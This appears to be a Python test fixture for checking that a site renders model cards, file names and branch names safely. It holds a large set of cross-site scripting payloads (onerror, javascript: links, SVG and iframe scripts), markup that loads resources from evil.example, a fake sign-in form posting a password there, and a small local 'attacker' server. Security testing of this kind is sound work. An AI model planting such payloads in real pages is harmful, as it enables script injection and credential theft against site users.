"""What somebody who means harm puts where others look, and a site of theirs."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

MARK = "pwned"
"""`window.pwned` is set if anything of all this runs."""

IMAGE = f'"><img src=x onerror=window.{MARK}=1>'
SCRIPT = f"<script>window.{MARK}=1</script>"
FILE_NAME = f"'\"><img src=x onerror=window.{MARK}=1>.md"
BRANCH = f"<img/src=x/onerror=window.{MARK}=1>"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.{MARK}=1">
<script>window.{MARK}=1; parent.{MARK}=1</script>
<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.{MARK}=1"/></foreignObject>
<image href="http://evil.example/beacon.png" width="10" height="10"/><rect width="40" height="40" onclick="window.{MARK}=1"/></svg>
"""
CARD = f"""---
license: {SCRIPT!r}
pipeline_tag: text-classification
tags: [{IMAGE!r}, "javascript:window.{MARK}=1"]
language: [{IMAGE!r}]
base_model: {IMAGE!r}
datasets: ["javascript:window.{MARK}=1"]
widget:
  - text: {IMAGE!r}
model-index:
  - name: {SCRIPT!r}
    results:
      - task: {{type: text-classification, name: {SCRIPT!r}}}
        dataset: {{type: x, name: {IMAGE!r}}}
        metrics: [{{type: accuracy, value: 0.5, name: {IMAGE!r}}}]
---
# A harmless heading

{SCRIPT} <img src=x onerror=window.{MARK}=1> <a href="javascript:window.{MARK}=1">a link</a> [another](javascript:window.{MARK}=1)
<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe><object data="data:text/html,{SCRIPT}"></object><embed src="evil.svg">
![beacon](http://evil.example/beacon.png) ![drawing](evil.svg) <picture><source srcset="http://evil.example/a.png"></picture>
<link rel="stylesheet" href="http://evil.example/a.css"><style>@import "http://evil.example/b.css"; main {{ display: none }}</style>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">
<form action="http://evil.example/"><input name="password"><button id="main">Sign in</button></form>
<div hx-get="/logout" hx-trigger="load" hx-on:load="window.{MARK}=1" x-data="{{}}" x-init="window.{MARK}=1" style="position:fixed">div</div>
<svg><animate onbegin=window.{MARK}=1 attributeName=x /></svg><math><mtext><img src=x onerror=window.{MARK}=1></mtext></math>
<details open ontoggle=window.{MARK}=1><summary>more</summary></details><a href="//evil.example" ping="//evil.example">out</a>

| {IMAGE} | b |
| --- | --- |
| <script>window.{MARK}=1</script> | `{SCRIPT}` |

```html
{SCRIPT}
```
"""


class _Attack(BaseHTTPRequestHandler):
    """`/form?to=…` holds a form that posts there, `/link?to=…` a link that leads there."""

    def do_GET(self) -> None:
        wanted = urlsplit(self.path)
        target = escape(parse_qs(wanted.query).get("to", [""])[0])
        body = {
            "/form": f'<form method=post action="{target}"><input name=next value="//evil.example"><button>Win</button></form>',
            "/link": f'<a href="{target}">Win</a>',
        }.get(wanted.path, "")
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Referrer-Policy", "unsafe-url")
        self.end_headers()
        self.wfile.write(f"<!doctype html><title>A prize</title>{body}".encode())

    def log_message(self, *_: object) -> None:
        """Quietly."""


@contextmanager
def running_attacker() -> Iterator[int]:
    """The port of a site that is not ours, on this machine: 127.0.0.1 is one site with ours, localhost is another."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Attack)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
